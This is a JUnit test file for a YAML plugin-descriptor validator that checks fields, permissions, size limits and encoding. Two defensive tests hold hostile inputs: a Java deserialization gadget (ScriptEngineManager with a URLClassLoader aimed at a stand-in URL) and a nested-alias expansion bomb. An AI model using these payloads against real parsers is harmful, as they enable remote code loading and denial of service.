package org.aibase.validator;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.EnumSet;
import java.util.List;

import org.aibase.api.plugin.Permission;
import org.aibase.api.plugin.PluginDescriptor;
import org.junit.jupiter.api.Test;

class DescriptorReaderTest {

    private final DescriptorReader reader = new DescriptorReader();

    @Test
    void readsIdNameVersionAndPermissions() {
        DescriptorReading reading = read("id: analytics\nname: AI Analytics\nversion: 1.2.3\n"
                + "permissions: [llm, storage, metrics.read]\nunknown_later: [1, 2]\n");

        assertEquals(List.of(Finding.warning("plugin.yaml/unknown_later", "is not a known field and is ignored",
                String.join(", ", org.aibase.validator.internal.DescriptorContent.FIELDS))), reading.findings());
        PluginDescriptor d = reading.descriptor().orElseThrow();
        assertEquals("analytics", d.id());
        assertEquals("AI Analytics", d.name());
        assertEquals("1.2.3", d.version());
        assertEquals(EnumSet.of(Permission.LLM, Permission.STORAGE, Permission.METRICS_READ), d.permissions());
    }

    @Test
    void noPermissionsMeansNone() {
        DescriptorReading reading = read("id: hello\nversion: 1.0.0\n");

        assertEquals(List.of(), reading.findings());
        assertTrue(reading.descriptor().orElseThrow().permissions().isEmpty());
        assertEquals("hello", reading.descriptor().orElseThrow().name(), "name defaults to the id");
    }

    @Test
    void refusesAMissingVersionButStillReadsTheRest() {
        DescriptorReading reading = read("id: hello\n");

        assertEquals("0.0.0", reading.descriptor().orElseThrow().version());
        assertEquals(List.of(Finding.error("plugin.yaml/version", "is missing",
                "a version X.Y.Z equal to Bundle-Version's major.minor.micro")), reading.findings());
    }

    @Test
    void refusesAnIdThatIsNotAString() {
        DescriptorReading reading = read("id: [a, b]\nversion: 1.0.0\n");

        assertOnlyError(reading, "plugin.yaml/id", "'[a, b]' is not a plugin id");
        assertTrue(reading.descriptor().isEmpty(), "no descriptor without an id");
    }

    @Test
    void refusesAMissingId() {
        assertOnlyError(read("name: x\nversion: 1.0.0\n"), "plugin.yaml/id", "is missing");
    }

    @Test
    void refusesPermissionsThatAreNotAList() {
        DescriptorReading reading = read("id: hello\nversion: 1.0.0\npermissions: http\n");

        assertOnlyError(reading, "plugin.yaml/permissions", "is text, not a list");
        assertTrue(reading.descriptor().orElseThrow().permissions().isEmpty(), "deny by default");
    }

    @Test
    void refusesAPermissionThatIsNotAString() {
        assertOnlyError(read("id: hello\nversion: 1.0.0\npermissions: [{a: b}]\n"), "plugin.yaml/permissions",
                "'{a=b}' is not a permission");
        assertOnlyError(read("id: hello\nversion: 1.0.0\npermissions: [http, htp]\n"), "plugin.yaml/permissions",
                "'htp' is not a permission");
    }

    @Test
    void warnsAboutADuplicatePermission() {
        DescriptorReading reading = read("id: hello\nversion: 1.0.0\npermissions: [http, http]\n");

        assertEquals(EnumSet.of(Permission.HTTP), reading.descriptor().orElseThrow().permissions());
        assertEquals(List.of(Finding.warning("plugin.yaml/permissions", "'http' is listed twice", "")), reading.findings());
    }

    @Test
    void refusesADocumentThatIsNotAMapping() {
        assertOnlyError(read("- a\n- b\n"), "plugin.yaml", "is not a mapping of fields");
        assertOnlyError(read(""), "plugin.yaml", "is empty");
    }

    @Test
    void refusesInvalidYaml() {
        DescriptorReading reading = read("id: [unclosed\n");

        assertEquals("plugin.yaml", reading.findings().get(0).location());
        assertTrue(reading.findings().get(0).message().startsWith("is not valid YAML"));
    }

    @Test
    void refusesDuplicateKeys() {
        DescriptorReading reading = read("id: a\nid: b\n");

        assertTrue(reading.descriptor().isEmpty());
        assertTrue(reading.findings().get(0).message().contains("duplicate key"), reading.findings().toString());
    }

    @Test
    void refusesJavaTypeTags() {
        DescriptorReading reading = read("id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");

        assertTrue(reading.descriptor().isEmpty());
        assertTrue(reading.findings().get(0).message().startsWith("is not valid YAML"), reading.findings().toString());
    }

    @Test
    void refusesAnAliasBomb() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 10; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" [");
            yaml.append(String.join(", ", java.util.Collections.nCopies(10, "*a" + (i - 1)))).append("]\n");
        }
        DescriptorReading reading = read(yaml + "id: hello\n");

        assertTrue(reading.descriptor().isEmpty());
        assertEquals("plugin.yaml", reading.findings().get(0).location());
    }

    @Test
    void refusesADescriptorOver64KiB() {
        DescriptorReading reading = read("id: hello\n# " + "x".repeat(DescriptorReader.MAX_BYTES) + "\n");

        assertOnlyError(reading, "plugin.yaml", "is larger than 64 KiB");
    }

    @Test
    void refusesInvalidUtf8() {
        DescriptorReading reading = reader.read(new ByteArrayInputStream(new byte[] {'i', 'd', ':', ' ', (byte) 0xC3, (byte) 0x28}));

        assertOnlyError(reading, "plugin.yaml", "is not valid UTF-8");
    }

    private DescriptorReading read(String yaml) {
        return reader.read(new ByteArrayInputStream(yaml.getBytes(StandardCharsets.UTF_8)));
    }

    private static void assertOnlyError(DescriptorReading reading, String location, String message) {
        List<Finding> errors = reading.findings().stream().filter(f -> f.severity() == Severity.ERROR).toList();
        assertEquals(1, errors.size(), reading.findings().toString());
        assertEquals(location, errors.get(0).location());
        assertEquals(message, errors.get(0).message());
    }
}
